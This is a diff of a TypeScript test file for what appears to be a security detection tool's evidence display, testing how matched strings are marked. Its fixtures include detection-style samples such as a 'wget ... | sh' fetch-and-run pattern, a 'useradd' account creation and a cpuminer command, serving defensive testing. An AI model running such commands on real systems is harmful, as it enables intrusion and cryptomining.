@@ -1,29 +1,16 @@
-import { describe, expect, test } from 'vitest';
-import { fields, headline, markMatch, matchedNames } from './evidence';
+import { expect, test } from 'vitest';
+import { fields, headline, markFound, matchedNames } from './evidence';
 import { kqlString, recentEventsQuery } from './device';
 
-const shown = (value: string, pattern: string) =>
-  markMatch(value, pattern).map((piece) => (piece.marked ? `[${piece.text}]` : piece.text)).join('');
-
-describe('markMatch', () => {
-  test.each([
-    ['sh -c "echo cpuminer-multi"', "contains 'CPUminer'", 'sh -c "echo [cpuminer]-multi"'],
-    ['/tmp/x/sh /sh', "ends with '/sh'", '/tmp/x/sh [/sh]'],
-    ['useradd -m x', "starts with 'useradd'", '[useradd] -m x'],
-    ['wget http://x | sh', "contains 'wget*| sh'", '[wget] http://x [| sh]'],
-    ['exact', "is 'exact'", '[exact]'],
-    ["it's here", "contains 't's'", "i[t's] here"],
-    ['nothing of it', "contains 'other'", 'nothing of it'],
-    ['203.0.113.7', 'in 203.0.113.0/24', '203.0.113.7'],
-    ['', "contains 'x'", ''],
-  ])('%s / %s', (value, pattern, expected) => expect(shown(value, pattern)).toBe(expected));
-
-  test('what is shown is the value, whatever the pattern', () => {
-    const value = 'a*b?c[d] \u{1F600} İi';
-    for (const pattern of ["contains '*'", "contains '?'", "contains 'İ'", "contains 'i'", "is ''", '']) {
-      expect(markMatch(value, pattern).map((piece) => piece.text).join('')).toBe(value);
-    }
-  });
+test.each([
+  ['sh -c "echo cpuminer-multi"', 'cpuminer-multi', 'sh -c "echo [cpuminer-multi]"'],
+  ['sh sh', 'sh', '[sh] [sh]'],
+  ['no part of it', '', 'no part of it'],
+  ['cut before it', 'something', 'cut before it'],
+  ['', 'x', ''],
+])('what was found is marked: %s / %s', (value, found, expected) => {
+  const shown = markFound(value, found).map((piece) => (piece.marked ? `[${piece.text}]` : piece.text));
+  expect(shown.join('')).toBe(expected);
 });
 
 test('fields lists ExtraDetails among the others and leaves out what is empty', () => {
@@ -44,7 +31,7 @@ test.each([
 ])('%s %j', (name, details, expected) => expect(headline(name, details)).toBe(expected));
 
 test('matchedNames knows fields inside ExtraDetails', () => {
-  expect(matchedNames([{ field: 'ExtraDetails.Cwd', value: '/', pattern: '' }]).has('Cwd')).toBe(true);
+  expect(matchedNames([{ field: 'ExtraDetails.Cwd', value: '/', pattern: '', found: '' }]).has('Cwd')).toBe(true);
 });
 
 test('a device id cannot end the string that it stands in', () => {
